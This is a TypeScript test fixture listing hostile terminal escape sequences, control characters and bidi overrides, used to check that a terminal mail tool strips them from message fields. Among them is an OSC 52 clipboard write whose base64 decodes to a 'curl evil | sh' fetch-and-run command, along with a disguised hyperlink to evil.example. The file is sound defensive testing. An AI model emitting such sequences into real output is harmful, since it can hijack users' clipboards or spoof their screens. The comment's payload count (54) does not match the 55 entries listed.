/**
 * The hostile payload table of the terminal safety matrix (issue 5): escape sequences and control
 * characters that terminal mail tools have been tricked by (title and clipboard writes, status replies
 * injected back as keystrokes, screen spoofing, reordered text). Each payload gets its own marker words,
 * so a test can tell that the text around it survived and the sequence did not.
 */

export type Family =
  | 'csi-7bit'
  | 'csi-c1'
  | 'osc0'
  | 'osc2'
  | 'osc8'
  | 'osc52'
  | 'osc-c1'
  | 'dcs'
  | 'apc'
  | 'pm'
  | 'sos'
  | 'lone-esc'
  | 'c0'
  | 'del'
  | 'c1'
  | 'bidi-override'
  | 'bidi-isolate'
  | 'long';

export interface Payload {
  /** Two digits, unique: part of the marker words. */
  id: string;
  family: Family;
  name: string;
  /** The hostile string itself (UTF-16; C1 controls as U+0080-U+009F). */
  seq: string;
  /** Very long: single-line fields cut it, so only its left marker is expected there. */
  long?: boolean;
  /**
   * An unterminated CSI takes what follows as its intermediate and final bytes, as a terminal does:
   * " Q" of the right marker goes with it, so the rest of that marker is what must survive.
   */
  eatsNext?: boolean;
}

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

let n = 0;
const p = (family: Family, name: string, seq: string, flags: { long?: boolean; eatsNext?: boolean } = {}): Payload => ({
  id: String(++n).padStart(2, '0'),
  family,
  name,
  seq,
  ...flags,
});

/** The table: 54 payloads over every family of the issue. */
export const PAYLOADS: readonly Payload[] = [
  p('csi-7bit', 'SGR red', `${ESC}[31m`),
  p('csi-7bit', 'SGR 256-colour blink inverse', `${ESC}[38;5;201;48;5;21;5;7m`),
  p('csi-7bit', 'clear screen and home', `${ESC}[2J${ESC}[H`),
  p('csi-7bit', 'cursor to 10;10', `${ESC}[10;10H`),
  p('csi-7bit', 'cursor up and erase line (spoofing)', `${ESC}[3A${ESC}[2K`),
  p('csi-7bit', 'device status report (reply injected as keys)', `${ESC}[6n`),
  p('csi-7bit', 'report window title', `${ESC}[21t`),
  p('csi-7bit', 'resize window', `${ESC}[8;5;5t`),
  p('csi-7bit', 'mouse tracking on', `${ESC}[?1000h`),
  p('csi-7bit', 'unterminated CSI', `${ESC}[1;2;3`, { eatsNext: true }),
  p('csi-c1', 'C1 CSI SGR', '\u009b31m'),
  p('csi-c1', 'C1 CSI clear', '\u009b2J'),
  p('csi-c1', 'C1 CSI status report', '\u009b6n'),
  p('osc0', 'OSC 0 title, BEL', `${ESC}]0;pwned title${BEL}`),
  p('osc0', 'OSC 0 title, ST', `${ESC}]0;pwned title${ST}`),
  p('osc2', 'OSC 2 title, BEL', `${ESC}]2;pwned window${BEL}`),
  p('osc2', 'OSC 2 title, ST', `${ESC}]2;pwned window${ST}`),
  p('osc2', 'OSC 2 unterminated', `${ESC}]2;never ends`),
  p('osc8', 'OSC 8 hyperlink, BEL', `${ESC}]8;;https://evil.example/${BEL}clickme${ESC}]8;;${BEL}`),
  p('osc8', 'OSC 8 hyperlink, ST', `${ESC}]8;;https://evil.example/${ST}clickme${ESC}]8;;${ST}`),
  p('osc52', 'OSC 52 clipboard write, BEL', `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`),
  p('osc52', 'OSC 52 clipboard write, ST', `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${ST}`),
  p('osc52', 'OSC 52 clipboard read (reply injected)', `${ESC}]52;c;?${BEL}`),
  p('osc-c1', 'C1 OSC title ended by C1 ST', '\u009d0;c1 title\u009c'),
  p('dcs', 'DCS DECRQSS (reply injected)', `${ESC}P$q"p${ST}`),
  p('dcs', 'C1 DCS', '\u0090$qm\u009c'),
  p('dcs', 'DCS tmux passthrough of OSC 52', `${ESC}Ptmux;${ESC}${ESC}]52;c;aGk=${BEL}${ST}`),
  p('apc', 'APC kitty graphics', `${ESC}_Gf=100,a=T;AAAA${ST}`),
  p('apc', 'C1 APC', '\u009fapc data\u009c'),
  p('pm', 'PM', `${ESC}^privacy message${ST}`),
  p('pm', 'C1 PM', '\u009epm data\u009c'),
  p('sos', 'SOS', `${ESC}Xstart of string${ST}`),
  p('sos', 'C1 SOS', '\u0098sos data\u009c'),
  p('lone-esc', 'lone ESC', ESC),
  p('lone-esc', 'ESC c full reset', `${ESC}c`),
  p('lone-esc', 'ESC ( 0 line-drawing charset', `${ESC}(0`),
  p('lone-esc', 'ESC # 8 screen alignment fill', `${ESC}#8`),
  p('lone-esc', 'ESC 7 / ESC 8 cursor save and restore', `${ESC}7xx${ESC}8`),
  p('c0', 'NUL', '\x00'),
  p('c0', 'BEL', BEL),
  p('c0', 'BS over the marker', '\b\b\b\b\b'),
  p('c0', 'CR overwrite', '\rSPOOFED'),
  p('c0', 'FF', '\x0c'),
  p('c0', 'VT', '\x0b'),
  p('c0', 'SO/SI and others', '\x0e\x0f\x01\x1a\x1c\x1f'),
  p('del', 'DEL', '\x7f\x7f'),
  p('c1', 'C1 NEL IND RI SS2', '\u0085\u0084\u008d\u008e'),
  p('c1', 'C1 others', '\u0080\u0099\u009a\u0096'),
  p('bidi-override', 'RLO filename spoof', '\u202egnp.exe'),
  p('bidi-override', 'LRO, RLE, LRE, PDF', '\u202dab\u202bcd\u202aef\u202c'),
  p('bidi-isolate', 'LRI RLI FSI PDI', '\u2066ab\u2067cd\u2068ef\u2069'),
  p('bidi-isolate', 'LRM RLM ALM marks', '\u200eab\u200fcd\u061c'),
  p('long', 'one 5,000-character word', 'W'.repeat(5000), { long: true }),
  p('long', 'a 20,000-character line of words', 'word '.repeat(4000), { long: true }),
  p('long', 'a 21,000-character word with SGR every 100', `${'x'.repeat(100)}${ESC}[31m`.repeat(200), { long: true }),
];

/** Field codes, part of the marker words: subject, name, email, text, html, link text, url, file. */
export type Field =
  | 'subject'
  | 'senderName'
  | 'senderEmail'
  | 'textBody'
  | 'htmlBody'
  | 'linkText'
  | 'linkUrl'
  | 'attachmentName';
export const FIELDS: readonly Field[] = [
  'subject',
  'senderName',
  'senderEmail',
  'textBody',
  'htmlBody',
  'linkText',
  'linkUrl',
  'attachmentName',
];
const FIELD_CODE: Record<Field, string> = {
  subject: 's',
  senderName: 'n',
  senderEmail: 'e',
  textBody: 't',
  htmlBody: 'h',
  linkText: 'l',
  linkUrl: 'u',
  attachmentName: 'f',
};

/** The two marker words around `payload` in `field`, e.g. ["Q07sa", "Q07sz"]. */
export function markers(payload: Payload, field: Field): [string, string] {
  const base = `Q${payload.id}${FIELD_CODE[field]}`;
  return [`${base}a`, `${base}z`];
}

/** The marker words that must be visible after `payload` was made safe. */
export function expectedMarkers(payload: Payload, field: Field): [string, string] {
  const [a, z] = markers(payload, field);
  return [a, payload.eatsNext ? z.slice(1) : z];
}

/** The hostile value of `field`: left marker, payload, right marker (spaces keep the markers whole words). */
export function hostileValue(payload: Payload, field: Field): string {
  const [a, z] = markers(payload, field);
  return `${a} ${payload.seq} ${z}`;
}

/** Payloads a raw (unencoded) header line cannot carry: CR and LF end the line, NUL is not a header byte. */
export const headerSafe = (payload: Payload): boolean => !/[\r\n\0]/.test(payload.seq);

/** Every C0 control but \n and \t, DEL, C1, and the bidi controls: none may ever reach the terminal. */
export const UNSAFE_CHAR = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/;

/** Describes the first unsafe character of `text`, or null. */
export function firstUnsafe(text: string): string | null {
  const m = UNSAFE_CHAR.exec(text);
  if (!m) return null;
  const code = m[0].charCodeAt(0).toString(16).padStart(4, '0');
  return `U+${code} at ${m.index}: ${JSON.stringify(text.slice(Math.max(0, m.index - 20), m.index + 20))}`;
}
